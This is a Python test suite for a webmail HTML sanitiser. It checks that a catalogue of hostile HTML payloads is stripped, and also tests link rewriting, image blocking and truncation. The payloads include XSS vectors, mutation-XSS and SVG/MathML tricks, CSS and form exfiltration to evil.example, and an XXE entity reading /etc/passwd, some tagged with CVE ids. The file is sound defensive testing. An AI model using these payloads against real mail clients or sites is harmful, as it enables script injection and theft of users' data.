"""The sanitiser against the hostile HTML that others fell to: only structure and text is left, whatever came in."""

from __future__ import annotations

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st

from merpati_webmail import sanitize
from merpati_webmail.sanitize import clean, link

ALLOWED = {
    "abbr", "align", "alt", "colspan", "dir", "height", "href", "lang", "rel", "rowspan", "span", "src",
    "start", "target", "title", "type", "valign", "width",
}  # fmt: skip


def assert_harmless(html: str) -> None:
    """No element or attribute beyond the allowlist, as a second parser sees it."""
    if not html.strip():
        return
    for element in lxml.html.fragment_fromstring(html, create_parent="div").iter():
        assert isinstance(element.tag, str), f"comment or instruction: {element}"
        assert element.tag in sanitize.TAGS | {"div"}, element.tag
        for name, value in element.attrib.items():
            assert name in ALLOWED, f"{element.tag} {name}"
            if name in ("href", "src"):
                assert value.startswith(
                    ("https://", "http://", "/compose?mailto=", "/inline/", "data:image/")
                )


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "event handler": '<img src=x onerror="alert(1)"><body onload=alert(1)>',
    "svg use data (CVE-2023-5631)": '<svg><use href="data:image/s vg+xml;base64,PHN2Zz4=#x"></use></svg>',
    "svg animate (CVE-2024-37383)": '<svg><animate attributeName="href " values="javascript:alert(1)"/><a id=x></a></svg>',
    "style in svg (CVE-2017-6820)": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "area (CVE-2016-4552)": '<map name=m><area href="javascript:alert(1)"></map>',
    "CDATA (CVE-2020-12625)": "<![CDATA[<script>alert(1)</script>]]>",
    "xmlns breakout (CVE-2020-15562)": '<x xmlns="><img src=x onerror=alert(1)>">',
    "RCDATA (CVE-2019-12970)": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "RAWTEXT": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "noembed": "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template>",
    "mXSS (CVE-2024-45800)": '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    "MathML annotation-xml (CVE-2026-63430)": '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "feImage (CVE-2026-25916)": '<svg><filter><feImage href="https://evil.example/x"/></filter></svg>',
    "svg paint (CVE-2026-35543)": '<svg><rect fill="url(https://evil.example/)" filter="url(//evil.example)"/></svg>',
    "CSS leak (CVE-2026-26079)": '<p style="background:u\\r\\l(https://evil.example)">x</p><style>@\\69mport "https://evil.example";</style>',
    "style end in content": "<style>a{content:'</style><img src=x onerror=alert(1)>'}</style>",
    "CSS functions (CVE-2026-48846)": '<p style="background:var(--x,url(https://evil.example)),image-set(\'https://evil.example\' 1x)">',
    "background (CVE-2026-35542)": '<table background="https://evil.example/x"><td background=//evil.example>',
    "overlay (CVE-2026-35544)": '<div style="position:fixed;inset:0" class="top card">x</div>',
    "stylesheet (CVE-2026-35540)": '<link rel=stylesheet href="https://evil.example/x.css">',
    "meta refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/"><a href="x">y</a>',
    "form": '<form action="https://evil.example"><input name=password><button formaction="https://evil.example">',
    "htmx (hx-*)": '<div hx-get="/compose" hx-trigger=load data-hx-post="/logout">x</div>',
    "frames": '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
    "media": '<video src=https://evil.example poster=https://evil.example></video><audio src=https://evil.example>',
    "srcset": '<img srcset="https://evil.example/x 1x"><picture><source srcset="https://evil.example/y">',
    "links": '<a href="javascript:alert(1)">a</a><a href="java\tscript:alert(1)">b</a><a href=" &#1;javascript:alert(1)">c</a><a href="vbscript:x">d</a><a href="data:text/html,x">e</a>',
    "ping": '<a href="https://ok.example" ping="https://evil.example">x</a>',
    "clobbering": '<img name=body id=list><a id=folders name=getElementById>x</a>',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!-- x --!><img src=x onerror=alert(1)>",
    "processing instruction": "<?xml-stylesheet href='https://evil.example'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "custom elements": "<x-evil is=y>text</x-evil>",
    "nested sanitiser": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "dialog and popover": "<dialog open>x</dialog><div popover=auto>y</div>",
    "slot, portal": "<slot name=x></slot><portal src=https://evil.example>",
}  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_loses_what_acts(html: str) -> None:
    cleaned = clean(html, images=False)
    assert_harmless(cleaned.html)
    assert "evil.example" not in cleaned.html
    assert (
        "onerror"
        not in lxml.html.tostring(lxml.html.fragment_fromstring(cleaned.html or "", create_parent="div"))
        .decode()
        .replace("&lt;", "")
        or "&lt;" in cleaned.html
    )


@given(st.text(alphabet=st.sampled_from(list("<>/=\"'abimgsvtyle ahref:&;-![]{}()\0\n"))))
def test_any_markup_comes_out_harmless(html: str) -> None:
    assert_harmless(clean(html, images=True).html)


@given(st.text(alphabet=st.sampled_from(list("<>/=\"' abimgsvtyle")), max_size=300))
def test_cleaning_again_changes_nothing(html: str) -> None:
    once = clean(html).html
    assert clean(once).html == once


def test_structure_survives() -> None:
    html = '<h2>Offer</h2><table><tbody><tr><td align="right" colspan="2">1</td></tr></tbody></table><p>q</p>'
    assert clean(html).html == html


def test_links_open_elsewhere_without_a_trace() -> None:
    assert (
        clean('<a href="https://shop.example/?a=1&amp;b=2" target=_top>x</a>').html
        == '<a href="https://shop.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>'
    )


def test_mailto_opens_our_composer() -> None:
    assert (
        link("mailto:iqbal@example.com?subject=A b")
        == "/compose?mailto=iqbal%40example.com%3Fsubject%3DA%20b"
    )


@pytest.mark.parametrize(
    "address",
    ["//evil.example/x", "/logout", "x", "https:", "https://[1", "file:///etc/passwd", "ftp://x/", ""],
)
def test_no_other_links(address: str) -> None:
    assert link(address) is None


@pytest.mark.parametrize(
    "address", ["https://t.example/p.gif", " HTTP://t.example/p", "ht\ntps://t.example/p"]
)
def test_remote_pictures_are_left_out_and_counted(address: str) -> None:
    cleaned = clean(f'<img src="{address}" alt="Logo">')
    assert (cleaned.blocked, cleaned.html) == (1, '<img alt="Logo">')
    assert clean(f'<img src="{address}">', images=True).remote == 1


@pytest.mark.parametrize(
    "address",
    ["//t.example/p.gif", "/logout", "data:image/svg+xml;base64,AAAA", "data:text/html,x", "blob:x"],
)
def test_pictures_that_are_never_shown(address: str) -> None:
    assert clean(f'<img src="{address}">', images=True).html == "<img>"


def test_small_pictures_in_the_html_itself_are_shown() -> None:
    html = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert clean(html).html == html


def test_inline_pictures_get_our_address() -> None:
    cleaned = clean(
        '<img src="cid:logo%40x"><img src="CID:other">',
        inline=lambda cid: f"/inline/{cid.removesuffix('@x')}" if cid == "logo@x" else None,
    )
    assert cleaned.html == '<img src="/inline/logo"><img>'


def test_huge_html_is_cut_and_says_so() -> None:
    cleaned = clean("<p>x</p>" * 400_000)
    assert cleaned.truncated
    assert len(cleaned.html) <= sanitize.MAX_HTML
